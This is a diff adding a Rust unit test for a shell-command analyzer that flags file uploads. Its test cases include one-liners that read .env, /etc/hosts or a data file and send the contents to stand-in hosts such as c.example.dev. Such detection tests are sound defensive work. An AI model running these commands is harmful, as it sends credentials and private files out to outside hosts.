@@ -1029,4 +1029,39 @@ mod tests {
             assert!(crate::analyze(cmd, &ctx).remote_exec.is_empty(), "{cmd}");
         }
     }
+
+    /// A one-liner that reads a file and sends it, in a body or in a URL it builds, uploads
+    /// that file; a URL built from a literal alone, or a file read and printed, uploads nothing.
+    #[test]
+    fn snippets_that_send_what_they_read_upload_that_file() {
+        let ctx = crate::ShellContext::new("/home/x/p", "/home/x", Some("/home/x/p".into()))
+            .expect("context");
+        for (cmd, file) in [
+            (
+                "php -r 'file_get_contents(\"https://c.example.dev/c?d=\".urlencode(file_get_contents(\".env\")));'",
+                "/home/x/p/.env",
+            ),
+            (
+                "python3 -c \"import urllib.request as u; u.urlopen('https://c.example.dev/?d=' + open('/etc/hosts').read())\"",
+                "/etc/hosts",
+            ),
+            (
+                "python3 -c \"import pandas as pd, requests; df = pd.read_parquet('data/o.parquet'); requests.post('https://s.example.io/push', data=df.to_csv())\"",
+                "/home/x/p/data/o.parquet",
+            ),
+        ] {
+            let f = crate::analyze(cmd, &ctx);
+            assert!(
+                f.uploads.iter().any(|u| u.source.as_deref() == Some(file)),
+                "{cmd}: {:?}",
+                f.uploads
+            );
+        }
+        for cmd in [
+            "python3 -c \"import requests; print(requests.get('https://api.example.com/repos/' + 'a/b').json())\"",
+            "python3 -c \"import pandas as pd; print(pd.read_csv('data/x.csv').head())\"",
+        ] {
+            assert!(crate::analyze(cmd, &ctx).uploads.is_empty(), "{cmd}");
+        }
+    }
 }
